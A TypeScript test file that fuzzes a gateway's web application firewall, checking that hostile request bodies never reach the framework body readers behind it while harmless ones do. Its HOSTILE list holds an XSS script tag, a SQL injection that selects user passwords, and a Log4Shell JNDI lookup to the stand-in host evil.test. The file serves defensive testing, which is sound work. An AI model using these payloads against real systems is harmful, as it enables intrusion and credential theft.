import { afterAll, describe, expect, test } from "bun:test";
import { startGateway, upstream } from "../harness/gateway.ts";
import { IS_LONG } from "../harness/long-lane.ts";
import { exchangeOnce } from "../harness/raw-client.ts";
import { SeededRandom } from "../harness/seeded-random.ts";
import { anyBody } from "./any-body.ts";
import { type BodyReader, startBodyReaders } from "./body-readers.ts";

// What the firewall inspected is what real frameworks parsed: whenever one of them finds a hostile text in a body, however it is
// wrapped and labelled, the gateway should have stopped the request.

const readers = await startBodyReaders();
const gateway = await startGateway({
  config: { server: { waf: { enabled: true } } },
  routes: readers.map((reader) => upstream(`/${reader.name}`, reader)),
});
afterAll(async () => {
  await gateway.stop();
  for (const reader of readers) reader.stop();
});

const SEED = Number(process.env.EDGE_TEST_SEED ?? 20261122);
const CASES = IS_LONG ? 30_000 : 2500;
const HOSTILE = [
  "<script>alert(7331)</script>",
  "1' UNION SELECT user,pass FROM users-- ",
  "${jndi:ldap://evil.test/a}",
];
const HARMLESS = ["two words", "O'Brien & Sons", "1 < 2, isn't it?"];
const LANES = 6;
const LIMIT_MS = IS_LONG ? 900_000 : 120_000;

interface Reading {
  readonly status: number;
  /** What the reader found; nothing where the request did not reach it, or was refused by it. */
  readonly texts: readonly string[];
}

async function read(bytes: Buffer): Promise<Reading> {
  const reply = await exchangeOnce(gateway.port, new Uint8Array(bytes)).catch(() => null);
  if (reply === null) return { status: 0, texts: [] };
  // A reader that is gone proves nothing.
  if (reply.status === 503) throw new Error(reply.text);
  const isTheirs = reply.status === 200;
  return { status: reply.status, texts: isTheirs ? (JSON.parse(reply.text) as string[]) : [] };
}

/** Runs cases in a few lanes. @returns how often the text was found, and the requests in which a reader found it */
async function play(reader: BodyReader, texts: readonly string[]): Promise<{ found: number; requests: string[] }> {
  const requests: string[] = [];
  const lane = async (number: number): Promise<void> => {
    for (let i = number; i < CASES; i += LANES) {
      const random = new SeededRandom(SEED * 100_003 + i);
      const text = random.pick(texts);
      const bytes = anyBody(random, `/${reader.name}/${random.pick(reader.paths)}`, text);
      const reading = await read(bytes);
      if (reading.texts.some((one) => one.includes(text)))
        requests.push(`case ${i}: ${JSON.stringify(bytes.toString("latin1"))}`);
    }
  };
  await Promise.all(Array.from({ length: LANES }, (_, number) => lane(number)));
  return { found: requests.length, requests };
}

describe.each(readers.map((reader) => [reader.name, reader] as const))("what %s makes of a body", (_name, reader) => {
  test(
    "is never a hostile text",
    async () => {
      expect((await play(reader, HOSTILE)).requests.slice(0, 5)).toEqual([]);
    },
    LIMIT_MS,
  );

  test(
    "is found in the same bodies where it means no harm",
    async () => {
      expect((await play(reader, HARMLESS)).found).toBeGreaterThan(CASES / 20);
    },
    LIMIT_MS,
  );
});
